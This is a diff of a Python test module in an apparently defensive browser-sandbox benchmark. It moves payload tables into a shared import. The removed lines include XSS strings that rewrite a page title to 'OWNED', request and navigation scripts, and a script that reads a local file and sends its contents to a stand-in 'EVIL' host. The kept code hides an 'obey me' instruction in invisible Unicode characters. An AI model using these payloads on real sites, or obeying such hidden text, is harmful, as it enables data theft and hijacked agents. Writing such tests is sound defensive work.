@@ -9,8 +9,8 @@ from html import escape
 from pathlib import Path
 from typing import Any
 
-from sextant_bench.doors.attack import Scene, bare
-from sextant_bench.doors.puppet import Order, Puppet, Served, act, press, run, texts_of
+from sextant_bench.doors.attack import TABLES, Scene, bare
+from sextant_bench.doors.puppet import Order, Puppet, Served, act, orders_of, press, run, texts_of
 from sextant_bench.doors.room import Room, unruly
 from sextant_bench.web_server import SCRIPT, HttpAnswer
 
@@ -32,18 +32,7 @@ _BREAKS = {
     "a unit separator": "\x1f",
     "a nul": "\0",
 }
-_CHANNELS: dict[str, str] = {
-    "a text": "<p>{}</p>",
-    "preformatted text": "<pre>{}</pre>",
-    "a label": '<button aria-label="{}">x</button>',
-    "a description": '<button title="{}">y</button>',
-    "a placeholder": '<input placeholder="{}">',
-    "a value": "<textarea>{}</textarea>",
-    "an option": "<select><option>{}</option></select>",
-    "an image's text": '<img alt="{}" width="50" height="50">',
-    "a heading": "<h2>{}</h2>",
-    "a table": "<table><tr><td>{}</td></tr></table>",
-}
+_CHANNELS: dict[str, str] = TABLES["channels"]
 _INVISIBLE = {
     "tag letters": "".join(chr(0xE0000 + ord(sign)) for sign in "obey me"),
     "variation selectors": "".join(chr(0xE0100 + ord(sign)) for sign in "obey me"),
@@ -104,21 +93,7 @@ for name, signs in _INVISIBLE.items():
 
 # ---------------------------------------------------------------------- requests of a page
 
-_WAYS = {
-    "a fetch": "fetch('/w/fetch', {method: 'POST', body: 'x'})",
-    "a kept fetch": "fetch('/w/kept', {method: 'POST', body: 'x', keepalive: true})",
-    "a beacon": "navigator.sendBeacon('/w/beacon', 'x')",
-    "an XHR": "(x => { x.open('POST', '/w/xhr'); x.send('x') })(new XMLHttpRequest())",
-    "a form in a new tab": "form('/w/tab', '_blank')",
-    "a form in a frame": "document.body.append(named('i')), form('/w/frame', 'i')",
-    "a frame's fetch": "framed(named('o')).fetch('/w/inner', {method: 'POST'})",
-    "a worker": "new Worker(blob('/w/worker'))",
-    "a delayed fetch": "setTimeout(() => fetch('/w/late', {method: 'POST'}), 700)",
-    "a DELETE": "fetch('/w/delete', {method: 'DELETE'})",
-    "a disguised method": "fetch('/w/override', {method: 'POST', headers: {'X-HTTP-Method-Override': 'GET'}})",
-    "an unknown method": "fetch('/w/patch', {method: 'PATCH'})",
-    "a stored script": "register('/sw.js').then(() => setTimeout(() => fetch('/w/sw', {method: 'POST'}), 500))",
-}
+_WAYS: dict[str, str] = TABLES["sends"]
 
 
 _SHARED = "new SharedWorker(blob('/w/shared'))"
@@ -177,14 +152,7 @@ gate.add(
 
 # ---------------------------------------------------------------------- scripts in what is written of it
 
-_SCRIPTS = {
-    "a script": "<script>document.title = `OWNED`</script>",
-    "a closed script": "</script><script>document.title = `OWNED`</script>",
-    "an image": "<img src=x onerror='document.title = `OWNED`'>",
-    "a closed attribute": "\"'><svg onload='document.title = `OWNED`'>",
-    "a comment": "--><!--><script>document.title = `OWNED`</script>",
-    "a template": "${document.title = `OWNED`}{{constructor.constructor('document.title = `OWNED`')()}}",
-}
+_SCRIPTS: dict[str, str] = TABLES["scripts"]
 
 
 @contextmanager
@@ -255,25 +223,11 @@ def _local(room: Room, body: str, orders: Sequence[Order] = ()) -> str:
     )
 
 
-for name, body, orders in (
-    (
-        "a fetch",
-        "<script>fetch('OTHER/letter.txt').then(r => r.text()).then(t => fetch('EVIL?' + t))</script>",
-        [],
-    ),
-    ("a frame", "<iframe src='OTHER/letter.html' width=300 height=100></iframe>", []),
-    ("an object", "<object data='OTHER/letter.html' width=300 height=100></object>", []),
-    ("a link", "<a href='OTHER/letter.html'>Away</a>", [press("Away"), act(type="wait", seconds=0)]),
-    (
-        "a script's address",
-        "<button onclick=\"location = 'OTHER/letter.html'\">Away</button>",
-        [press("Away"), act(type="wait", seconds=0)],
-    ),
-):
+for name, (body, orders) in TABLES["reads"].items():
     inside.add(
         f"file by {name}",
         f"a page from a file reads a file of another folder by {name}",
-        partial(_local, body=body, orders=orders),
+        partial(_local, body=body, orders=orders_of(orders)),
     )
 
 
@@ -309,15 +263,7 @@ def _changed(room: Room) -> str:
     )
 
 
-for name, script in (
-    ("a window", "window.open('AWAY')"),
-    ("an address", "location.href = 'AWAY'"),
-    ("a refresh", "document.head.innerHTML += '<meta http-equiv=refresh content=\\'0;url=AWAY\\'>'"),
-    (
-        "a frame's form",
-        "document.body.insertAdjacentHTML('beforeend', '<form id=f action=AWAY></form>'), f.submit()",
-    ),
-):
+for name, script in TABLES["goes"].items():
 
     def _leaves(room: Room, script: str = script) -> str:
         """Whether the run goes on with a stranger's page that nothing was done to open."""
